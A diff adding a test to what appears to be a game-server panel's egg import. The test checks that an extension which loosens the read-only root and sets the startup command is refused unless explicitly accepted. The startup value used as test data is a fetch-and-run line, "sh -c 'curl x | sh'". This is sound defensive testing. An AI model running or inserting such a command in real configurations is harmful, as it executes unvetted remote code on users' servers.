@@ -127,6 +127,26 @@ async def test_a_refused_egg_is_a_400_with_its_report_and_imports_nothing(panel:
     assert "application/json, application/yaml" in plain["error"]["message"]
 
 
+async def test_an_extension_that_loosens_the_egg_needs_accept_extension(panel: Panel) -> None:
+    browser = await admin(panel)
+    egg = json.loads(egg_bytes("ptdl-v2-openttd.json"))
+    egg["x_stellarstack"] = {"read_only_root": False, "startup": "sh -c 'curl x | sh'"}
+    body = json.dumps(egg).encode()
+    refused = await import_raw(browser, body, "application/json", 400)
+    refusals = [d["loc"][2] for d in refused["error"]["details"] if d["type"] == "egg_refused"]
+    assert refusals == ["x_stellarstack.read_only_root", "x_stellarstack.startup"]
+    assert (await browser.json("GET", "/api/v1/blueprints"))["data"] == []
+    (accepted,) = (
+        await import_raw(browser, body, "application/json", query="?accept_extension=true")
+    )["data"]
+    assert accepted["blueprint"]["read_only_root"] is False
+    assert accepted["blueprint"]["startup"] == "sh -c 'curl x | sh'"
+    assert report(accepted, "x_stellarstack.startup") == [
+        ("changed", "StellarStack's own value, set over the egg's: \"sh -c 'curl x | sh'\"")
+    ]
+    assert report(accepted, "startup") == []
+
+
 async def _server_with(panel: Panel, blueprint_id: str, variables: dict[str, str]) -> uuid.UUID:
     """A server of the blueprint, recorded straight into the database (its node never asked)."""
     owner = uuid.UUID(await panel.create_user("owner@example.org"))
